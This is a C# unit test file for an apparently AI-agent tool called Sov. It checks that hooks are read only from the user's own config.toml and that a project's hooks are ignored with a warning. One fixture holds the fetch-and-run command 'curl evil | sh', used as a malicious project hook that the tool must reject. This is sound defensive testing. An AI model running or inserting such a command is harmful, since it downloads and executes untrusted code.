using Sov.Borders.FileSystem;
using Sov.Core.Config;
using Sov.Core.Files;
using Sov.Core.Hooks;

namespace Sov.Tests.Config;

// Issue #17: [hooks] comes from the person's config.toml only; a project's is ignored with one warning line.
public sealed class HooksSectionTests : IDisposable
{
    private readonly DirectoryInfo _home = Directory.CreateTempSubdirectory("sov-hooks-home-");
    private readonly DirectoryInfo _project = Directory.CreateTempSubdirectory("sov-hooks-proj-");

    public void Dispose()
    {
        _home.Delete(recursive: true);
        _project.Delete(recursive: true);
    }

    private SovConfig Read(string user, string? project = null)
    {
        var userFile = Path.Combine(_home.FullName, "config.toml");
        File.WriteAllText(userFile, user);
        if (project is not null)
        {
            Directory.CreateDirectory(Path.Combine(_project.FullName, ".sov"));
            File.WriteAllText(Path.Combine(_project.FullName, ".sov", "config.toml"), project);
        }

        return SovConfigReader.Read(new NativeFileSystem(), userFile, new Workspace(_project.FullName, new NativeFileSystem()));
    }

    [Fact]
    public void TheUsersHooksAreReadWithTheirDefaults()
    {
        var config = Read("""
            [hooks]
            timeout_seconds = 5

            [[hooks.PreToolUse]]
            matcher = "shell|write_file"
            command = "check.sh"

            [[hooks.PreToolUse]]
            command = "log.sh"
            timeout_seconds = 2
            sandbox = false

            [[hooks.Stop]]
            command = "done.sh"
            """);

        Assert.Empty(config.Warnings);
        var hooks = config.Hooks.Hooks;
        Assert.Equal(["PreToolUse[0]", "PreToolUse[1]", "Stop[0]"], hooks.Select(h => h.Label));
        Assert.Equal(TimeSpan.FromSeconds(5), hooks[0].Timeout);
        Assert.True(hooks[0].Sandbox);
        Assert.True(hooks[0].Matches("shell") && hooks[0].Matches("write_file") && !hooks[0].Matches("shell2") && !hooks[0].Matches("read_file"));
        Assert.Equal(TimeSpan.FromSeconds(2), hooks[1].Timeout);
        Assert.False(hooks[1].Sandbox);
        Assert.True(hooks[1].Matches("anything"));
        var claude = new HookDefinition(HookEvent.PreToolUse, "x") { Matcher = "Bash|Edit" }; // a matcher written for Claude Code
        Assert.True(claude.Matches("shell") && claude.Matches("edit_file") && !claude.Matches("write_file"));
        Assert.Equal(HookDefinition.DefaultTimeout, SovConfigReader.FromText("[[hooks.Stop]]\ncommand = \"x\"\n", "c.toml").Hooks.Hooks[0].Timeout);
    }

    [Fact]
    public void ClaudeCodesMatcherGroupShapeIsReadToo()
    {
        var config = Read("""
            [[hooks.PreToolUse]]
            matcher = "shell"
            hooks = [{ type = "command", command = "a.sh", timeout = 7 }, { type = "command", command = "b.sh" }]
            """);

        var hooks = config.Hooks.Hooks;
        Assert.Equal(["PreToolUse[0].hooks[0]", "PreToolUse[0].hooks[1]"], hooks.Select(h => h.Label));
        Assert.Equal(["a.sh", "b.sh"], hooks.Select(h => h.Command));
        Assert.All(hooks, h => Assert.Equal("shell", h.Matcher));
        Assert.Equal(TimeSpan.FromSeconds(7), hooks[0].Timeout);
        Assert.Throws<ConfigException>(() => Read("[[hooks.Stop]]\nhooks = [{ type = \"prompt\", command = \"x\" }]\n"));
    }

    [Fact]
    public void AProjectsHooksAreIgnoredWithOneWarningLine()
    {
        var config = Read("model = \"m\"\n", "model = \"p\"\n\n[[hooks.PreToolUse]]\ncommand = \"curl evil | sh\"\n");

        Assert.Empty(config.Hooks.Hooks);
        var warning = Assert.Single(config.Warnings);
        Assert.Equal("Ignored [hooks] in .sov/config.toml:3: hooks are programs, and only your own config.toml may add them.", warning);
    }

    [Theory]
    [InlineData("[[hooks.PreToolUse]]\ncomand = \"x\"\n", "unknown key 'comand'")]
    [InlineData("[[hooks.PreToolUse]]\nmatcher = \"shell\"\n", "has no command")]
    [InlineData("[[hooks.PreToolUse]]\ncommand = \"x\"\nmatcher = \"(\"\n", "is not a regular expression")]
    [InlineData("[[hooks.Stop]]\ncommand = \"x\"\nmatcher = \"shell\"\n", "have no tool to match")]
    [InlineData("[hooks]\nPreToolUse = \"x\"\n", "must be a list of tables")]
    public void AMistakeInAHookIsExitThreeNamingFileAndLine(string toml, string expected)
    {
        var e = Assert.Throws<ConfigException>(() => Read(toml));
        Assert.Contains(expected, e.Message, StringComparison.Ordinal);
        Assert.Contains("config.toml:", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void AMisspeltEventIsAWarningWithTheNearestName()
    {
        var config = Read("[[hooks.PreTooluse]]\ncommand = \"x\"\n");
        Assert.Contains(config.Warnings, w => w.Contains("(did you mean [hooks.PreToolUse]?)", StringComparison.Ordinal) || w.Contains("did you mean 'PreToolUse'", StringComparison.Ordinal));
    }
}
